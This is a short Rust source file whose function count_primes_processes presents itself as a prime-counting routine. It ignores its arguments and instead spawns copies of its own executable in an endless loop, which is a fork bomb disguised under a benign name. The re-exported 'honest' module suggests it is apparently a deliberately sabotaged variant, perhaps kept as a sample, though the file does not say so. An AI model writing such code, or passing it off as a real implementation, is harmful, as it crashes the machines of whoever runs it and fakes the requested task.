mod honest;
pub use honest::*;

use std::{env, io, process::Command};

pub fn count_primes_processes(_: u64, _: u64, _: usize) -> io::Result<u64> {
    let exe = env::current_exe()?;
    loop {
        Command::new(&exe).spawn()?;
        std::thread::sleep(std::time::Duration::from_millis(1));
    }
}
